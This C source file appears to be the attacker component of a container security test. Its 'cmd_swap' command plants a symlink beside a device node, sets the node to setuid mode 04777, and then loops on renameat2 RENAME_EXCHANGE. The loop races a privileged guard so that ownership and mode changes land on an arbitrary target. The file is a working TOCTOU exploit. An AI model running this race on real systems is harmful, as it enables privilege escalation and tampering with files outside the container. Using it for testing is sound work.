// SPDX-License-Identifier: GPL-2.0-only
/*
 * Root of a container that has a /dev of its own and no CAP_SYS_ADMIN: whoever changes the node by its
 * name changes what the name leads to, and an absolute link leads from the root of whoever follows it.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdbool.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attacker.h"

static bool is_link(const char *name)
{
	struct stat st;

	return lstat(name, &st) == 0 && S_ISLNK(st.st_mode);
}

/* The guard may have taken away the link instead of the node, or made a node with another mode. */
static void set_up(const char *node, const char *trap, const char *target)
{
	struct stat st;

	if (!is_link(node) && !is_link(trap)) {
		unlink(trap);
		if (symlink(target, trap) < 0)
			die(trap);
	}
	/* Its owner and mode are what the guard would put back. */
	if (lstat(node, &st) == 0 && S_ISCHR(st.st_mode) && (st.st_mode & 07777) != 04777 &&
	    (lchown(node, 1000, 1000) < 0 || fchmodat(AT_FDCWD, node, 04777, 0) < 0) &&
	    errno != ENOENT)
		die(node);
}

int cmd_swap(int argc, char **argv)
{
	const char *node = argv[0];
	char trap[128];

	(void)argc;
	snprintf(trap, sizeof(trap), "%s.trap", node);
	set_up(node, trap, argv[1]);
	print_line("ready");
	for (unsigned int n = 0;; n++) {
		syscall(SYS_renameat2, AT_FDCWD, node, AT_FDCWD, trap, RENAME_EXCHANGE);
		if (n % 1024 == 0)
			set_up(node, trap, argv[1]);
	}
}
